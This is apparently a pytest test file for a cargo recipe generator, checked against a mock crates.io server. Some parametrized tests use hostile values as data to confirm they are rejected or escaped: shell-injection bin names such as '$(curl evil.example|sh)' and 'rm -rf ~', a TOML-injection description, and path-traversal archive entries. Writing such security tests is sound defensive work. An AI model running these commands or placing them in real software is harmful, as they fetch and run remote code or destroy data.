"""The cargo builder against a local server answering as the crates.io API does."""

from __future__ import annotations

import io
import tarfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from generator_helpers import failure_of, recipe_of
from pytest_httpserver import HTTPServer

from recipeline_generator import CargoBuilder, default_registry
from recipeline_generator.cargo import newest_version, semver_key
from recipeline_schema import Recipe, parse_recipe_toml, recipe_from_toml, recipe_to_toml
from recipeline_schema.http import HttpClient

FIXTURES = Path(__file__).resolve().parents[3] / ".." / "shared" / "fixtures" / "tsuku" / "recipes"


def crate_doc(
    name: str,
    versions: list[dict[str, Any]] | None,
    *,
    description: str | None = "Recursively searches directories for a regex pattern",
    homepage: str | None = None,
    repository: str | None = "https://github.com/example/tool",
) -> dict[str, Any]:
    """A ``/api/v1/crates/<name>`` answer in crates.io's shape (its ``crates::read::show``
    snapshot): the crate object lists version ids, the full version objects come alongside,
    keywords and categories are objects. ``versions=None`` gives the minimal answer (crates.io's
    ``show_minimal`` snapshot: ``versions``, ``keywords`` and ``categories`` are ``null``)."""
    newest = versions[0]["num"] if versions else "0.0.0"
    api = f"/api/v1/crates/{name}"
    crate: dict[str, Any] = {
        "badges": [],
        "categories": [] if versions is not None else None,
        "created_at": "2016-09-22T23:43:56.391818+00:00",
        "default_version": newest,
        "description": description,
        "documentation": None,
        "downloads": 12345,
        "exact_match": False,
        "homepage": homepage,
        "id": name,
        "keywords": ["cli"] if versions is not None else None,
        "links": {
            "owner_team": f"{api}/owner_team",
            "owner_user": f"{api}/owner_user",
            "owners": f"{api}/owners",
            "reverse_dependencies": f"{api}/reverse_dependencies",
            "version_downloads": f"{api}/downloads",
            "versions": None if versions is not None else f"{api}/versions",
        },
        "max_stable_version": newest,
        "max_version": newest,
        "name": name,
        "newest_version": newest,
        "num_versions": len(versions or []),
        "recent_downloads": 100,
        "repository": repository,
        "updated_at": "2025-01-01T00:00:00.000000+00:00",
        "versions": [v["id"] for v in versions] if versions is not None else None,
        "yanked": False,
    }
    if versions is None:
        return {"categories": None, "crate": crate, "keywords": None, "versions": None}
    keyword = {
        "crates_cnt": 1,
        "created_at": "2016-09-22T23:43:56.391818+00:00",
        "id": "cli",
        "keyword": "cli",
    }
    return {"categories": [], "crate": crate, "keywords": [keyword], "versions": versions}


def version(
    num: str,
    bins: list[Any] | None,
    *,
    yanked: bool = False,
    has_lib: bool | None = False,
    crate: str = "x",
    edition: str | None = "2021",
) -> dict[str, Any]:
    """One version object with every field crates.io's version view sends (its
    ``crates::versions::read`` snapshot); ``bin_names``/``has_lib`` are ``null`` for a version
    published before crates.io recorded targets."""
    api = f"/api/v1/crates/{crate}/{num}"
    return {
        "audit_actions": [],
        "bin_names": bins,
        "checksum": "0" * 64,
        "crate": crate,
        "crate_size": 1000,
        "created_at": "2024-01-01T00:00:00.000000+00:00",
        "description": None,
        "dl_path": f"{api}/download",
        "documentation": None,
        "downloads": 10,
        "edition": edition,
        "features": {},
        "has_lib": has_lib,
        "homepage": None,
        "id": zlib.crc32(f"{crate}@{num}".encode()),
        "lib_links": None,
        "license": "MIT",
        "linecounts": None,
        "links": {
            "authors": f"{api}/authors",
            "dependencies": f"{api}/dependencies",
            "version_downloads": f"{api}/downloads",
        },
        "num": num,
        "published_by": None,
        "readme_path": f"{api}/readme",
        "repository": None,
        "rust_version": None,
        "trustpub_data": None,
        "updated_at": "2024-01-01T00:00:00.000000+00:00",
        "yank_message": None,
        "yanked": yanked,
    }


@pytest.fixture
def crates(httpserver: HTTPServer) -> Iterator[HTTPServer]:
    """The local server, 404 for anything not served."""
    httpserver.no_handler_status_code = 404
    yield httpserver
    httpserver.clear()


@pytest.fixture
def cargo(http: HttpClient, crates: HTTPServer) -> CargoBuilder:
    """A cargo builder pointed at the local server's ``/api/v1``."""
    return CargoBuilder(http, api_url=crates.url_for("/api/v1"))


def serve(server: HTTPServer, name: str, doc: dict[str, Any]) -> None:
    server.expect_request(f"/api/v1/crates/{name}").respond_with_json(doc)


def test_recipe_from_the_newest_stable_non_yanked_version(cargo: CargoBuilder, crates: HTTPServer) -> None:
    serve(
        crates,
        "ripgrep",
        crate_doc(
            "ripgrep",
            [
                version("15.0.0-beta.1", ["rg", "rg-beta"]),
                version("14.2.0", ["rg", "evil"], yanked=True),
                version("14.1.1", ["rg"]),
                version("9.0.0", ["old"]),
            ],
        ),
    )

    text = recipe_to_toml(recipe_of(cargo.generate("ripgrep", name="ripgrep")))

    assert text == (
        "[metadata]\n"
        'name = "ripgrep"\n'
        'description = "Recursively searches directories for a regex pattern"\n'
        'homepage = "https://github.com/example/tool"\n'
        "\n"
        "[[steps]]\n"
        'action = "cargo_install"\n'
        'crate = "ripgrep"\n'
        'executables = ["rg"]\n'
        "\n"
        "[verify]\n"
        'command = "rg --version"\n'
        'pattern = "{version}"\n'
    )


def test_minimal_answer_asks_the_version_list_crates_io_sends_unpaginated(
    cargo: CargoBuilder, crates: HTTPServer
) -> None:
    # the crate answer can come without versions (null, as crates.io's show_minimal snapshot and a
    # recorded answer in Renovate's crate datasource fixtures have it); /versions without per_page
    # is unpaginated and has no "meta" (crates.io's versions controller)
    serve(crates, "bat", crate_doc("bat", None, repository="https://github.com/sharkdp/bat"))
    listed = [version("0.25.0", ["bat"], crate="bat"), version("0.24.0", ["bat"], crate="bat")]
    crates.expect_request("/api/v1/crates/bat/versions").respond_with_json({"versions": listed})

    recipe = recipe_of(cargo.generate("bat", name="bat"))

    assert recipe.steps[0].params["executables"] == ("bat",)
    assert recipe.homepage == "https://github.com/sharkdp/bat"
    assert [req.path for req, _ in crates.log] == ["/api/v1/crates/bat", "/api/v1/crates/bat/versions"]


def test_uses_the_identifier_not_the_queue_name(cargo: CargoBuilder, crates: HTTPServer) -> None:
    serve(crates, "fd-find", crate_doc("fd-find", [version("10.0.0", ["fd"])], homepage="https://fd.example"))

    recipe = cargo.generate("fd-find", name="fd")

    assert isinstance(recipe, Recipe)
    assert recipe.name == "fd" and recipe.steps[0].params["crate"] == "fd-find"
    assert recipe.homepage == "https://fd.example"
    assert [req.path for req, _ in crates.log] == ["/api/v1/crates/fd-find"]


def test_prerelease_only_crate_uses_its_newest_prerelease(cargo: CargoBuilder, crates: HTTPServer) -> None:
    serve(
        crates,
        "pre",
        crate_doc("pre", [version("1.0.0-alpha.2", ["b"]), version("1.0.0-alpha.10", ["a"])]),
    )

    recipe = cargo.generate("pre", name="pre")

    assert isinstance(recipe, Recipe) and recipe.steps[0].params["executables"] == ("a",)


def crate_file(name: str, num: str, files: dict[str, str]) -> bytes:
    """A ``.crate`` as ``cargo package`` writes it: a gzipped tar of ``<name>-<num>/...``."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path if path.startswith("../") else f"{name}-{num}/{path}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.fixture
def static_host() -> Iterator[HTTPServer]:
    """A second server standing in for crates.io's static download host."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.no_handler_status_code = 404
    server.start()
    yield server
    server.clear()
    server.stop()


def serve_crate(crates: HTTPServer, static: HTTPServer, name: str, num: str, data: bytes) -> None:
    """``/api/v1/crates/<name>/<num>/download`` answers 302 to the static host, as crates.io does."""
    location = static.url_for(f"/crates/{name}/{name}-{num}.crate")
    crates.expect_request(f"/api/v1/crates/{name}/{num}/download").respond_with_data(
        "", status=302, headers={"Location": location}
    )
    static.expect_request(f"/crates/{name}/{name}-{num}.crate").respond_with_data(
        data, content_type="application/gzip"
    )


def old_version(num: str) -> dict[str, Any]:
    """What crates.io answers for a version published before it analysed targets (mid-2024)."""
    return version(num, None, has_lib=None, edition=None)


def test_null_bin_names_read_the_crate_archive_as_cargo_does(
    cargo: CargoBuilder, crates: HTTPServer, static_host: HTTPServer
) -> None:
    serve(crates, "legacy", crate_doc("legacy", [old_version("2.0.0"), old_version("1.0.0")]))
    manifest = (
        '[package]\nname = "legacy"\nversion = "2.0.0"\nedition = "2021"\n\n'
        '[[bin]]\nname = "zeta"\npath = "tools/z.rs"\n\n'
        '[[bin]]\nname = "gui"\nrequired-features = ["gui"]\n\n[features]\ndefault = []\ngui = []\n'
    )
    files = {
        "Cargo.toml": manifest,
        "Cargo.toml.orig": "not read",
        "src/main.rs": "fn main() {}",
        "src/bin/alpha.rs": "fn main() {}",
        "src/bin/beta/main.rs": "fn main() {}",
        "src/bin/beta/helper.rs": "",
        "src/bin/gui.rs": "fn main() {}",
        "tools/z.rs": "fn main() {}",
    }
    serve_crate(crates, static_host, "legacy", "2.0.0", crate_file("legacy", "2.0.0", files))

    recipe = recipe_of(cargo.generate("legacy", name="legacy"))

    assert recipe.steps[0].params["executables"] == ("alpha", "beta", "legacy", "zeta")
    assert recipe.verify is not None and recipe.verify.command == "legacy --version"
    paths = [req.path for req, _ in crates.log]
    assert "/api/v1/crates/legacy/2.0.0" not in paths  # the per-version answer has the same null


@pytest.mark.parametrize(
    ("manifest", "files", "outcome"),
    [
        # autobins = false: only [[bin]] tables count
        (
            '[package]\nname = "t"\nversion = "1.0.0"\nautobins = false\n',
            {"src/main.rs": ""},
            "binary_discovery_failed",
        ),
        # the 2015 edition turns inference off when a [[bin]] is written
        (
            '[package]\nname = "t"\nversion = "1.0.0"\n\n[[bin]]\nname = "only"\n',
            {"src/main.rs": ""},
            ("only",),
        ),
        (
            '[package]\nname = "t"\nversion = "1.0.0"\nedition = "2018"\n\n[[bin]]\nname = "x"\n',
            {"src/main.rs": ""},
            ("t", "x"),
        ),
        ('[package]\nname = "t"\nversion = "1.0.0"\n', {"src/lib.rs": ""}, "library_only"),
        ('[package]\nname = "other"\nversion = "1.0.0"\n', {"src/main.rs": ""}, "archive_extraction_failed"),
        (
            '[package]\nname = "t"\nversion = "1.0.0"\n\n[[bin]]\npath = "src/main.rs"\n',
            {},
            "archive_extraction_failed",
        ),
        ("[package\nname = ", {}, "archive_extraction_failed"),
        (None, {"src/main.rs": ""}, "archive_extraction_failed"),
        ('[package]\nname = "t"\nversion = "1.0.0"\n', {"../../escape": ""}, "archive_extraction_failed"),
    ],
)
def test_crate_archive_rules(
    cargo: CargoBuilder,
    crates: HTTPServer,
    static_host: HTTPServer,
    manifest: str | None,
    files: dict[str, str],
    outcome: Any,
) -> None:
    serve(crates, "t", crate_doc("t", [old_version("1.0.0")]))
    content = ({"Cargo.toml": manifest} if manifest is not None else {}) | files
    serve_crate(crates, static_host, "t", "1.0.0", crate_file("t", "1.0.0", content))

    result = cargo.generate("t", name="t")

    if isinstance(outcome, tuple):
        assert recipe_of(result).steps[0].params["executables"] == outcome
    else:
        failure = failure_of(result)
        assert (failure.category, failure.subcategory) == ("deterministic_insufficient", outcome)
        assert "t-1.0.0.crate" in failure.message or outcome != "archive_extraction_failed"


def test_a_crate_that_is_not_gzip_and_a_missing_download(
    cargo: CargoBuilder, crates: HTTPServer, static_host: HTTPServer
) -> None:
    serve(crates, "t", crate_doc("t", [old_version("1.0.0")]))
    serve_crate(crates, static_host, "t", "1.0.0", b"<html>not a crate</html>")
    assert failure_of(cargo.generate("t", name="t")).subcategory == "archive_extraction_failed"
    serve(crates, "gone", crate_doc("gone", [old_version("1.0.0")]))
    failure = failure_of(cargo.generate("gone", name="gone"))
    assert (failure.category, failure.subcategory) == ("api_error", "not_found")
    assert failure.message.startswith("gone-1.0.0.crate: HTTP 404")


def test_library_crate_is_library_only(cargo: CargoBuilder, crates: HTTPServer) -> None:
    serve(crates, "serde", crate_doc("serde", [version("1.0.0", [], has_lib=True)]))

    failure = failure_of(cargo.generate("serde", name="serde"))

    assert (failure.category, failure.subcategory) == ("deterministic_insufficient", "library_only")
    assert failure.package_id == "cargo:serde" and not failure.transient


def test_empty_bin_names_without_lib_facts_is_binary_discovery_failed(
    cargo: CargoBuilder, crates: HTTPServer
) -> None:
    serve(crates, "odd", crate_doc("odd", [version("1.0.0", [], has_lib=None)]))

    failure = failure_of(cargo.generate("odd", name="odd"))

    assert failure.subcategory == "binary_discovery_failed"
    assert "bin_names is empty" in failure.message


def test_everything_yanked_is_archive_extraction_failed(cargo: CargoBuilder, crates: HTTPServer) -> None:
    serve(crates, "gone", crate_doc("gone", [version("1.0.0", ["gone"], yanked=True)]))

    failure = failure_of(cargo.generate("gone", name="gone"))

    assert failure.subcategory == "archive_extraction_failed"


def test_no_https_homepage_gives_a_recipe_without_one(cargo: CargoBuilder, crates: HTTPServer) -> None:
    """tsuku's homepage is optional (https when present): an http link or the registry's own
    page is left out, the recipe is still made."""
    doc = crate_doc("plain", [version("1.0.0", ["plain"])], repository="http://example.com/plain")
    doc["crate"]["homepage"] = crates.url_for("/crates/plain")  # the registry's own page
    serve(crates, "plain", doc)

    recipe = recipe_of(cargo.generate("plain", name="plain"))

    assert recipe.homepage == ""
    assert "homepage" not in recipe_to_toml(recipe)


@pytest.mark.parametrize(
    "hostile",
    ["../../etc/passwd", 'x"; rm -rf ~; "', "two\nlines", "$(curl evil.example|sh)", "a b", "`id`"],
)
def test_hostile_bin_names_fail_the_crate(cargo: CargoBuilder, crates: HTTPServer, hostile: str) -> None:
    serve(crates, "trap", crate_doc("trap", [version("1.0.0", ["good", hostile])]))

    failure = failure_of(cargo.generate("trap", name="trap"))

    assert failure.subcategory == "binary_discovery_failed"
    assert "\n" not in failure.message and "not a safe executable name" in failure.message


def test_hostile_description_is_escaped_in_toml(cargo: CargoBuilder, crates: HTTPServer) -> None:
    nasty = 'line one\n[[steps]]\naction = "run_command"\ncommand = "rm -rf ~" """ \x00'
    serve(crates, "quiet", crate_doc("quiet", [version("1.0.0", ["quiet"])], description=nasty))

    recipe = cargo.generate("quiet", name="quiet")

    assert isinstance(recipe, Recipe)
    parsed = parse_recipe_toml(recipe_to_toml(recipe))
    assert [step["action"] for step in parsed["steps"]] == ["cargo_install"]
    assert "\n" not in parsed["metadata"]["description"] and "\x00" not in parsed["metadata"]["description"]


@pytest.mark.parametrize("identifier", ["../etc", "a/b", "x;y", "-flag", "name with space"])
def test_hostile_crate_names_are_not_handled(
    cargo: CargoBuilder, crates: HTTPServer, identifier: str
) -> None:
    assert not cargo.can_build(identifier)
    failure = failure_of(cargo.generate(identifier, name="x"))
    assert failure.subcategory == "unsupported_source"
    assert crates.log == []


def test_unknown_crate_is_api_error_not_found(cargo: CargoBuilder, crates: HTTPServer) -> None:
    failure = failure_of(cargo.generate("nothing-here", name="nothing-here"))

    assert (failure.category, failure.subcategory, failure.transient) == ("api_error", "not_found", False)
    assert crates.url_for("/") not in failure.message


@pytest.mark.parametrize(
    "doc",
    [
        [1, 2, 3],
        {"no_crate": {}},
        crate_doc("bad", [version("1.0.0", ["ok"])])
        | {"versions": [{"num": "1.0.0", "yanked": False, "bin_names": "rg"}]},
        crate_doc("bad", [version("1.0.0", ["ok"])])
        | {"versions": [{"num": "1.0.0", "yanked": False, "bin_names": [1]}]},
        # crates.io's type for it is Option<Vec<Option<String>>>: an item may be null
        crate_doc("bad", [version("1.0.0", ["ok"])]) | {"versions": [version("1.0.0", ["ok", None])]},
        crate_doc("bad", [version("1.0.0", ["ok"])])
        | {"versions": [{"num": "1.0.0", "yanked": False, "bin_names": [], "has_lib": "yes"}]},
        crate_doc("bad", [version("1.0.0", ["ok"])]) | {"versions": {"num": "1.0.0"}},
    ],
)
def test_malformed_answers_are_bad_response(cargo: CargoBuilder, crates: HTTPServer, doc: Any) -> None:
    crates.expect_request("/api/v1/crates/bad").respond_with_json(doc)
    crates.expect_request("/api/v1/crates/bad/versions").respond_with_json({"versions": None, "meta": {}})

    failure = failure_of(cargo.generate("bad", name="bad"))

    assert (failure.category, failure.subcategory, failure.transient) == ("api_error", "bad_response", True)
    if isinstance(doc, dict) and "crate" in doc and isinstance(doc.get("versions"), list):
        assert "'versions[0]." in failure.message


def test_rate_limited_answer_is_rate_limited(cargo: CargoBuilder, crates: HTTPServer) -> None:
    crates.expect_request("/api/v1/crates/busy").respond_with_data(
        "slow down", status=429, headers={"Retry-After": "3600"}
    )

    failure = failure_of(cargo.generate("busy", name="busy"))

    assert (failure.subcategory, failure.transient) == ("rate_limited", True)


def test_semver_precedence() -> None:
    order = ["1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0"]
    keys = [semver_key(v) for v in order]
    assert all(k is not None for k in keys)
    assert sorted(order, key=lambda v: semver_key(v) or (0, 0, 0, 0, ())) == order
    assert semver_key("1.0") is None and semver_key("01.0.0") is None
    assert semver_key("1.2.3+build.5") == semver_key("1.2.3")
    chosen = newest_version([{"num": "2.0.0", "yanked": None}, {"num": "1.0.0", "yanked": False}])
    assert chosen is not None and chosen["num"] == "1.0.0", "a version not clearly un-yanked is skipped"


def test_same_answers_give_byte_identical_recipes(http: HttpClient, crates: HTTPServer) -> None:
    serve(crates, "multi", crate_doc("multi", [version("3.1.4", ["zz", "multi", "aa", "multi"])]))
    first = recipe_to_toml(
        recipe_of(CargoBuilder(http, api_url=crates.url_for("/api/v1")).generate("multi", name="multi"))
    )
    second = recipe_to_toml(
        recipe_of(CargoBuilder(http, api_url=crates.url_for("/api/v1")).generate("multi", name="multi"))
    )

    assert first == second
    assert 'executables = ["aa", "multi", "zz"]' in first


def test_api_base_from_the_environment_override(
    http: HttpClient, crates: HTTPServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RECIPELINE_CARGO_URL", crates.url_for("/api/v1/"))
    serve(crates, "envtool", crate_doc("envtool", [version("1.0.0", ["envtool"])]))

    recipe = default_registry(http, index_url="http://127.0.0.1:9/simple/").get("cargo")

    assert recipe is not None
    assert isinstance(recipe.generate("envtool", name="envtool"), Recipe)


@pytest.mark.parametrize("fixture", ["a/add-determinism.toml", "c/cargo-audit.toml"])
def test_step_has_the_shape_of_tsuku_recipes(cargo: CargoBuilder, crates: HTTPServer, fixture: str) -> None:
    path = FIXTURES / fixture
    if not path.is_file():
        pytest.skip(f"tsuku fixtures not present at {FIXTURES}")
    real = recipe_from_toml(path.read_text(encoding="utf-8"), str(path))
    real_step = real.steps[0]
    crate = real_step.params["crate"]
    serve(
        crates, crate, crate_doc(crate, [version("1.0.0", list(reversed(real_step.params["executables"])))])
    )

    ours = cargo.generate(crate, name=real.name)

    assert isinstance(ours, Recipe)
    assert ours.actions == real.actions == ("cargo_install",)
    assert dict(ours.steps[0].params) == {
        "crate": crate,
        "executables": tuple(real_step.params["executables"]),
    }
    assert ours.verify is not None and real.verify is not None
    assert ours.verify.command == real.verify.command
